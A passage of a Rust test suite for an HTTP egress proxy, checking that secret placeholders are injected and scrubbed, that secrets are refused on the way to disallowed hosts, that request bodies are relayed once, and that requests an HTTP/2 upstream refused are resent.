            (StatusCode::OK, seen(&format!("k={ph}&a=1")))
        );
        // HEAD: the header scrubbed, the length kept.
        let head = Request::head("http://raw.test/echo").header("x-token", "forged");
        let head = if lean {
            head
        } else {
            head.header("content-length", "0")
        };
        let (status, headers, body) = send(&mut c, head.body(empty()).unwrap()).await;
        assert_eq!((status, body.as_str()), (StatusCode::OK, ""));
        assert_eq!(headers["x-echo"], "[redacted]");
        let unscrubbed = format!("seen {SECRET} key  auth Bearer {NAMED} query  accept ");
        assert_eq!(headers["content-length"], unscrubbed.len().to_string());
        // A coding hive cannot read, or two stacked: 502, nothing of the body delivered.
        for path in ["/echo-compress", "/echo-stacked"] {
            let (status, headers, body) =
                send(&mut c, get(&format!("http://raw.test{path}"))).await;
            assert_eq!(status, StatusCode::BAD_GATEWAY, "{path}, lean {lean}");
            assert!(!body.contains(SECRET) && !format!("{headers:?}").contains(SECRET));
        }
        // The placeholder on its way to a host the secret may not go to: refused, nothing sent.
        let before = accepted.load(std::sync::atomic::Ordering::SeqCst);
        let (status, headers, _) = send(&mut c, get("http://other.test/echo")).await;
        assert_eq!(status, StatusCode::FORBIDDEN);
        assert_eq!(headers[DENIED_HEADER], "secret-blocked");
        let after = accepted.load(std::sync::atomic::Ordering::SeqCst);
        assert_eq!(before, after, "nothing sent for the refused request");
        // To the end of the connection: scrubbed, then the client connection closes.
        let (status, _, body) = send(&mut c, get("http://raw.test/echo-close")).await;
        assert_eq!((status, body), (StatusCode::OK, seen("")));
        assert_eq!(h.engine.lean_requests(), if lean { 9 } else { 0 });
        // One upstream connection for the scrubbed answers; the lean path drops the connection
        // of a refused answer unread, hyper's reuses it when the body was all read.
        let connections = accepted.load(std::sync::atomic::Ordering::SeqCst);
        assert_eq!(connections, if lean { 3 } else { 1 });

        let events = h.drain_events().await;
        let requests = egress_requests(&events);
        assert_eq!(requests.len(), 9);
        for (i, r) in requests.iter().enumerate() {
            let injected = if i == 7 {
                json!([])
            } else {
                json!(["authorization", "x-token"])
            };
            assert_eq!(field(r, "injectedHeaders"), &injected, "request {i}");
        }
        assert_eq!(field(requests[7], "reason"), "secret-blocked");
        let blocked = fields_of(&events, kind::SECRET_BLOCKED, &["secret", "host", "where"]);
        assert_eq!(blocked, [json!(["KEY", "other.test", "header"])]);
        let scrubbed = fields_of(&events, kind::SECRET_SCRUBBED, &["secret", "count"]);
        // The named value (substituted into x-key, injected into authorization, and in the
        // query once) and the inline one (x-echo and the body), per answer.
        let answer =
            |named: u64, inline: u64| [json!(["KEY", named]), json!(["header:x-token", inline])];
        let mut expected: Vec<Value> = Vec::new();
        for (named, inline) in [(2, 2), (2, 2), (2, 2), (3, 2), (1, 1), (2, 2)] {
            expected.extend(answer(named, inline));
        }
        // The HEAD answer: the header holds the inline value only.
        expected.remove(8);
        assert_eq!(scrubbed, expected, "lean {lean}");
        for e in &events {
            let text = e.to_json().to_string();
            assert!(!text.contains(SECRET) && !text.contains(NAMED), "{e:?}");
        }
    }
}

/// Bodies with a `Content-Length` (up to 64 KiB, methods that carry one) are lean: relayed whole
/// and counted, searched for placeholders where a secret may not go (refused with nothing sent,
/// the connection kept in step), never sent twice, and not sent on a pooled connection the
/// upstream closed while it was idle.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lean_path_relays_request_bodies_once() {
    let h = Harness::new(json!([])).await;
    let upstream = start_raw_upstream_counting().await;
    let (raw, accepted, requests) = (upstream.addr, upstream.accepted, upstream.requests);
    let config = json!({
        "egress": [
            { "access": "allow", "host": "raw.test", "methods": ["POST", "PUT"] },
            { "access": "allow", "host": "other.test" },
        ],
        "secrets": { "KEY": { "value": "named-secret-value-0123", "hosts": ["other.test"] } },
    });
    route_raw_with(&h, raw, config);
    let ph = placeholder(&h, "KEY");
    let mut c = h.http_client().await;
    let post = |method: &str, url: &str, body: String| {
        Request::builder()
            .method(method)
            .uri(url)
            .header("content-length", body.len().to_string())
            .body(full(body))
            .unwrap()
    };
    let big = "x".repeat(60 * 1024);
    for body in ["{\"model\":\"m\"}".to_owned(), big.clone()] {
        let (status, _, echoed) =
            send(&mut c, post("POST", "http://raw.test/mirror", body.clone())).await;
        assert_eq!((status, echoed.len()), (StatusCode::OK, body.len()));
        assert_eq!(echoed, body);
    }
    // A placeholder in the body, on its way to a host its secret may not go to: refused, and the
    // connection stays in step for the next request.
    let (status, headers, _) = send(
        &mut c,
        post("PUT", "http://raw.test/mirror", format!("k={ph}")),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(headers[DENIED_HEADER], "secret-blocked");
    let sent = requests.load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!(sent, 2, "nothing of the refused PUT reached the upstream");
    let (status, _, echoed) = send(
        &mut c,
        post("PUT", "http://raw.test/mirror", "after".into()),
    )
    .await;
    assert_eq!((status, echoed.as_str()), (StatusCode::OK, "after"));
    assert_eq!(h.engine.lean_requests(), 4);
    assert_eq!(accepted.load(std::sync::atomic::Ordering::SeqCst), 1);
    // The upstream closes each connection after answering, without saying so: the next POST is
    // not written into the closed one (which would fail it: a POST is never sent twice).
    for _ in 0..3 {
        let (status, _, echoed) = send(
            &mut c,
            post("POST", "http://raw.test/mirror-once", "once".into()),
        )
        .await;
        assert_eq!((status, echoed.as_str()), (StatusCode::OK, "once"));
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // The first on the kept connection, then one new connection each.
    assert_eq!(accepted.load(std::sync::atomic::Ordering::SeqCst), 3);
    assert_eq!(h.engine.lean_requests(), 7);

    let events = h.drain_events().await;
    let requests = egress_requests(&events);
    assert_eq!(field(requests[2], "reason"), "secret-blocked");
    let blocked = fields_of(&events, kind::SECRET_BLOCKED, &["secret", "host", "where"]);
    assert_eq!(blocked, [json!(["KEY", "raw.test", "body"])]);
    let out = fields_of(&events, kind::EGRESS_RESPONSE, &["bytesOut"]);
    assert_eq!(
        out[..2],
        [json!(["{\"model\":\"m\"}".len()]), json!([big.len()])]
    );
}

/// Sends `request` on `s` and reads the response (framed by `Content-Length`): status, head, body.
async fn exchange_raw(s: &mut TcpStream, request: &[u8]) -> (u16, String, Vec<u8>) {
    s.write_all(request).await.unwrap();
    let mut got = Vec::new();
    let mut chunk = [0u8; 4096];
    let end = loop {
        if let Some(end) = got.windows(4).position(|w| w == b"\r\n\r\n") {
            break end + 4;
        }
        let n = s.read(&mut chunk).await.unwrap();
        assert!(n > 0, "closed after {:?}", String::from_utf8_lossy(&got));
        got.extend_from_slice(&chunk[..n]);
    };
    let head = String::from_utf8_lossy(&got[..end]).to_lowercase();
    let length: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .map_or(0, |v| v.trim().parse().unwrap());
    while got.len() < end + length {
        let n = s.read(&mut chunk).await.unwrap();
        assert!(n > 0);
        got.extend_from_slice(&chunk[..n]);
    }
    let status = head.split_whitespace().nth(1).unwrap().parse().unwrap();
    (status, head, got[end..end + length].to_vec())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lean_path_takes_small_chunked_request_bodies() {
    let h = Harness::new(json!([])).await;
    let upstream = start_raw_upstream_counting().await;
    let (raw, requests) = (upstream.addr, upstream.requests);
    let config = json!({
        "egress": [{ "access": "allow", "host": "raw.test", "methods": ["POST", "PUT"] }],
        "secrets": { "KEY": { "value": "named-secret-value-0123", "hosts": ["other.test"] } },
    });
    route_raw_with(&h, raw, config);
    let ph = placeholder(&h, "KEY");
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    let post = |body: &str| {
        format!("POST http://raw.test/mirror HTTP/1.1\r\ntransfer-encoding: chunked\r\n\r\n{body}")
    };
    // Decoded whole and sent on with a length; what follows on the connection is the next request.
    let (status, head, body) = exchange_raw(
        &mut s,
        post("7\r\n{\"a\":1,\r\n3\r\n\"b\"\r\n2\r\n:2\r\n1\r\n}\r\n0\r\n\r\n").as_bytes(),
    )
    .await;
    assert_eq!((status, body.as_slice()), (200, &b"{\"a\":1,\"b\":2}"[..]));
    assert!(head.contains("x-framing: length"), "{head}");
    assert_eq!(h.engine.lean_requests(), 1);
    // An empty one.
    let (status, head, body) = exchange_raw(&mut s, post("0\r\n\r\n").as_bytes()).await;
    assert_eq!((status, body.len()), (200, 0));
    assert!(head.contains("x-framing: length"), "{head}");
    // A placeholder split across chunks, on its way to a host its secret may not go to: refused,
    // and the connection stays in step.
    let (a, b) = ph.split_at(10);
    let split = format!(
        "{:x}\r\nk={a}\r\n{:x}\r\n{b}\r\n0\r\n\r\n",
        a.len() + 2,
        b.len()
    );
    let (status, head, _) = exchange_raw(&mut s, post(&split).as_bytes()).await;
    assert_eq!(status, 403);
    assert!(head.contains("secret-blocked"), "{head}");
    assert_eq!(h.engine.lean_requests(), 3);
    assert_eq!(
        requests.load(std::sync::atomic::Ordering::SeqCst),
        2,
        "nothing sent"
    );
    // Framing the lean path does not take goes to hyper, on the same connection: a trailer and
    // an extension (hyper's path sends a body that fits its 64 KiB search with a length too),
    // and more than 64 KiB (streamed, chunked).
    let big = "x".repeat(40 * 1024);
    for (body, framing) in [
        ("2\r\nok\r\n0\r\nx-sum: 1\r\n\r\n".to_owned(), "length"),
        ("2;name=value\r\nok\r\n0\r\n\r\n".to_owned(), "length"),
        (
            format!("a000\r\n{big}\r\na000\r\n{big}\r\n0\r\n\r\n"),
            "chunked",
        ),
    ] {
        let (status, head, echoed) = exchange_raw(&mut s, post(&body).as_bytes()).await;
        assert_eq!(status, 200, "{head}");
        assert!(head.contains(&format!("x-framing: {framing}")), "{head}");
        assert!(echoed == b"ok" || echoed.len() == 2 * big.len());
    }
    assert_eq!(h.engine.lean_requests(), 3);
    let events = h.drain_events().await;
    let blocked = fields_of(&events, kind::SECRET_BLOCKED, &["secret", "host", "where"]);
    assert_eq!(blocked, [json!(["KEY", "raw.test", "body"])]);
    let out = fields_of(&events, kind::EGRESS_RESPONSE, &["bytesOut"]);
    assert_eq!(out[..2], [json!([13]), json!([0])]);
}

// ---------------------------------------------------------------------------------------------
// Requests an HTTP/2 upstream refused unprocessed (`super::resend`)

/// What the scripted HTTP/2 upstream does with a stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum H2Step {
    /// `GOAWAY` (`NO_ERROR`) whose last stream id is below this stream's: never processed.
    GoAwayBefore,
    /// `RST_STREAM` with `REFUSED_STREAM`.
    Refuse,
    /// Reads the request whole, then `GOAWAY` naming this stream as processed, and closes the
    /// connection without an answer.
    ProcessAndClose,
    /// `200` with the request body as the answer.
    Answer,
}

/// [`start_h2_upstream`]'s upstream: its address, the CA its certificate comes from, each stream
/// it saw (with what it did) and the bodies of the requests it read whole.
struct H2Upstream {
    addr: SocketAddr,
    ca_pem: String,
    steps: Arc<Mutex<Vec<H2Step>>>,
    bodies: Arc<Mutex<Vec<Vec<u8>>>>,
}

/// An HTTPS upstream that speaks only HTTP/2, frame by frame: the `m`th stream of its `n`th
/// connection is handled by `script(n, m)`.
async fn start_h2_upstream(script: fn(usize, usize) -> H2Step) -> H2Upstream {
    async fn read_frame<S: tokio::io::AsyncRead + Unpin>(
        s: &mut S,
    ) -> Option<(u8, u8, u32, Vec<u8>)> {
        let mut head = [0u8; 9];
        s.read_exact(&mut head).await.ok()?;
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0; len];
        s.read_exact(&mut payload).await.ok()?;
        let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
        Some((head[3], head[4], stream, payload))
    }
    fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
        let mut out = (payload.len() as u32).to_be_bytes()[1..].to_vec();
        out.extend_from_slice(&[kind, flags]);
        out.extend_from_slice(&stream.to_be_bytes());
        out.extend_from_slice(payload);
        out
    }
    fn goaway(last: u32) -> Vec<u8> {
        let mut payload = last.to_be_bytes().to_vec();
        payload.extend_from_slice(&0u32.to_be_bytes()); // NO_ERROR
        frame(7, 0, 0, &payload)
    }
    const DATA: u8 = 0;
    const HEADERS: u8 = 1;
    const SETTINGS: u8 = 4;
    const END_STREAM: u8 = 1;

    let (ca_pem, tls) = upstream_tls();
    let mut tls = (*tls).clone();
    tls.alpn_protocols = vec![b"h2".to_vec()];
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(tls));
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let steps = Arc::new(Mutex::new(Vec::new()));
    let bodies = Arc::new(Mutex::new(Vec::new()));
    let (seen, read) = (steps.clone(), bodies.clone());
    tokio::spawn(async move {
        let mut n = 0;
        while let Ok((stream, _)) = listener.accept().await {
            let (acceptor, seen, read) = (acceptor.clone(), seen.clone(), read.clone());
            let conn = n;
            n += 1;
            tokio::spawn(async move {
                let Ok(mut s) = acceptor.accept(stream).await else {
                    return;
                };
                let mut preface = [0u8; 24];
                if s.read_exact(&mut preface).await.is_err()
                    || s.write_all(&frame(SETTINGS, 0, 0, &[])).await.is_err()
                {
                    return;
                }
                let mut m = 0;
                let mut open: std::collections::HashMap<u32, (H2Step, Vec<u8>)> =
                    Default::default();
                while let Some((kind, flags, id, payload)) = read_frame(&mut s).await {
                    let mut ended = None;
                    let reply = match kind {
                        SETTINGS if flags & 1 == 0 => frame(SETTINGS, 1, 0, &[]),
                        HEADERS => {
                            let step = script(conn, m);
                            m += 1;
                            seen.lock().push(step);
                            match step {
                                H2Step::GoAwayBefore => goaway(id.saturating_sub(2)),
                                H2Step::Refuse => frame(3, 0, id, &7u32.to_be_bytes()),
                                _ => {
                                    open.insert(id, (step, Vec::new()));
                                    ended = (flags & END_STREAM != 0).then_some(id);
                                    Vec::new()
                                }
                            }
                        }
                        DATA => {
                            if let Some((_, body)) = open.get_mut(&id) {
                                body.extend_from_slice(&payload);
                                ended = (flags & END_STREAM != 0).then_some(id);
                            }
                            Vec::new()
                        }
                        _ => Vec::new(),
                    };
                    if s.write_all(&reply).await.is_err() {
                        return;
                    }
                    let Some((step, body)) = ended.and_then(|id| open.remove(&id)) else {
                        continue;
                    };
                    read.lock().push(body.clone());
                    let id = ended.unwrap_or_default();
                    if step == H2Step::ProcessAndClose {
                        let _ = s.write_all(&goaway(id)).await;
                        return;
                    }
                    // `:status: 200` is entry 8 of HPACK's static table.
                    let mut answer = frame(HEADERS, 4, id, &[0x88]);
                    answer.extend_from_slice(&frame(DATA, END_STREAM, id, &body));
                    if s.write_all(&answer).await.is_err() {
                        return;
                    }
                }
            });
        }
    });
    H2Upstream {
        addr,
        ca_pem,
        steps,
        bodies,
    }
}

/// Points `pypi.org:443` at `up`, trusting its CA, and allows it.
fn route_h2(h: &Harness, up: &H2Upstream) {
    let mut upstream = h.upstream.clone();
    upstream["resolve"]["pypi.org:443"] = up.addr.to_string().into();
    upstream["ca"]
        .as_array_mut()
        .unwrap()
        .push(up.ca_pem.clone().into());
    let egress = json!([{ "access": "allow", "host": "pypi.org" }]);
    let config = Config::from_json(&json!({ "egress": egress, "upstream": upstream })).unwrap();
    h.cell.store(Arc::new(Compiled::new(config)));
}

/// A `POST` of `body` (with its length) by [`h2_send`].
async fn h2_post(h: &Harness, body: &'static str) -> Result<(StatusCode, String), h2::Reason> {
    let req = Request::post("https://pypi.org/v1/chat")
        .header("content-length", body.len())
        .body(full(body))
        .unwrap();
    h2_send(h, req).await
}

/// `req` from an h2-only client (hyper's path on both legs) through an intercepted tunnel to
/// pypi.org: the status and the answer's body, or the reason its stream was reset.
async fn h2_send(h: &Harness, req: Request<ProxyBody>) -> Result<(StatusCode, String), h2::Reason> {
    let tls = h
        .tunnel("pypi.org:443", "pypi.org", &[b"h2"])
        .await
        .unwrap();
    let (mut c, conn) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(tls))
            .await
            .unwrap();
    tokio::spawn(conn);
    let res = c.send_request(req).await.map_err(|e| reset_reason(&e))?;
    let status = res.status();
    let answer = res.into_body().collect().await.unwrap().to_bytes();
    Ok((status, String::from_utf8_lossy(&answer).into_owned()))
}

/// The reason an HTTP/2 client's request failed with (a reset stream); panics on other errors.
fn reset_reason(err: &hyper::Error) -> h2::Reason {
    std::error::Error::source(err)
        .and_then(|e| e.downcast_ref::<h2::Error>())
        .and_then(h2::Error::reason)
        .unwrap_or_else(|| panic!("not a reset: {err:?}"))
}

/// A request whose stream an HTTP/2 upstream refused without processing it (above a `GOAWAY`'s
/// last stream id, or reset with `REFUSED_STREAM`) is sent again, body and all, and answered;
/// one the upstream may have processed is not, and fails with `502`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_an_h2_upstream_refused_unprocessed_is_sent_again() {
    let h = Harness::new(json!([])).await;
    let body = "{\"model\":\"m\",\"messages\":[]}";

    // The first connection goes away before the request's stream, the second refuses its first
    // stream, and then requests are answered.
    let up = start_h2_upstream(|conn, stream| match (conn, stream) {
        (0, _) => H2Step::GoAwayBefore,
        (1, 0) => H2Step::Refuse,
        _ => H2Step::Answer,
    })
    .await;
    route_h2(&h, &up);
    assert_eq!(
        h2_post(&h, body).await,
        Ok((StatusCode::OK, body.to_string()))
    );
    assert_eq!(
        *up.steps.lock(),
        [H2Step::GoAwayBefore, H2Step::Refuse, H2Step::Answer]
    );
    assert_eq!(*up.bodies.lock(), [body.as_bytes()], "one whole body read");
    let events = h.drain_events().await;
    assert!(errors(&events).is_empty(), "{events:?}");
    let out = fields_of(&events, kind::EGRESS_RESPONSE, &["status", "bytesOut"]);
    assert_eq!(out, [json!([200, body.len()])], "the body counted once");

    // Processed, then the connection closed: not sent again.
    let up = start_h2_upstream(|_, _| H2Step::ProcessAndClose).await;
    route_h2(&h, &up);
    let (status, _) = h2_post(&h, body).await.unwrap();
    assert_eq!(status, StatusCode::BAD_GATEWAY);
    assert_eq!(*up.steps.lock(), [H2Step::ProcessAndClose], "sent once");
    let events = h.drain_events().await;
    assert_eq!(errors(&events).len(), 1, "{events:?}");

    // Refused every time: sent again three times, then refused to the client in turn.
    let up = start_h2_upstream(|_, _| H2Step::GoAwayBefore).await;
    route_h2(&h, &up);
    assert_eq!(h2_post(&h, body).await, Err(h2::Reason::REFUSED_STREAM));
    assert_eq!(up.steps.lock().len(), 1 + super::resend::MAX_RESENDS);
    assert_eq!(errors(&h.drain_events().await).len(), 1);

    // A body without a stated length streams as it comes, so it is never sent again: the client
    // is told the stream was refused unprocessed, so that it may send it again itself.
    let up = start_h2_upstream(|_, stream| match stream {
        0 => H2Step::Refuse,
        _ => H2Step::Answer,
    })
    .await;
    route_h2(&h, &up);
    let (tx, rx) = mpsc::channel(1);
    let req = Request::post("https://pypi.org/v1/upload")
        .body(ChanBody(rx).boxed_unsync())
        .unwrap();
    tx.send(Bytes::from_static(b"part")).await.unwrap();
    drop(tx);
    assert_eq!(h2_send(&h, req).await, Err(h2::Reason::REFUSED_STREAM));
    assert_eq!(*up.steps.lock(), [H2Step::Refuse], "sent once");
    let events = h.drain_events().await;
    assert_eq!(errors(&events).len(), 1, "the refusal is audited");
}
